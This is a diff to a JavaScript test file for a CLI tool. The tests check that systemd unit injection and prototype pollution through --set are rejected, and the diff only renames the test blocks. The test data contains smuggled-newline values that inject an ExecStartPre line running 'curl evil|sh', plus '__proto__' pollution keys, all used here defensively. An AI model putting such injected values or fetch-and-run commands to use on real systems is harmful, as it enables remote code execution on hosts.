@@ -7,7 +7,7 @@ import { cli, tempDir, rmrf } from '../helpers.js';
 const dir = tempDir('sparkctl-input-');
 afterAll(() => rmrf(dir));
 
-describe('item 15: the systemd unit cannot be injected into', { timeout: 120_000 }, () => {
+describe('the systemd unit cannot be injected into', { timeout: 120_000 }, () => {
   it.each([
     ['a newline in a --set value', ['--set', 'description=ok\n[Service]\nExecStartPre=/bin/sh -c "curl evil|sh"']],
     ['a newline in --user', ['--user', 'vllm\nExecStartPre=/bin/evil']],
@@ -34,7 +34,7 @@ describe('item 15: the systemd unit cannot be injected into', { timeout: 120_000
   });
 });
 
-describe('item 16: --set cannot reach the object prototype; --gpus is decimal', { timeout: 120_000 }, () => {
+describe('--set cannot reach the object prototype; --gpus is decimal', { timeout: 120_000 }, () => {
   it.each(['__proto__.x=1', 'constructor.prototype.x=1', 'engine.__proto__.polluted=1'])('--set %s: exit 2', async (s) => {
     const r = await cli(['plan', 'qwen3.5-9b', '--set', s]);
     expect(r.exitCode, r.stderr).toBe(2);
@@ -50,7 +50,7 @@ describe('item 16: --set cannot reach the object prototype; --gpus is decimal', 
   });
 });
 
-describe('item 17: --verbose prints stack traces only for internal errors', { timeout: 120_000 }, () => {
+describe('--verbose prints stack traces only for internal errors', { timeout: 120_000 }, () => {
   it('an unknown profile (exit 2) and an unreachable server (exit 3) have no stack trace', async () => {
     const a = await cli(['--verbose', 'plan', 'no-such-profile']);
     expect(a.exitCode).toBe(2);
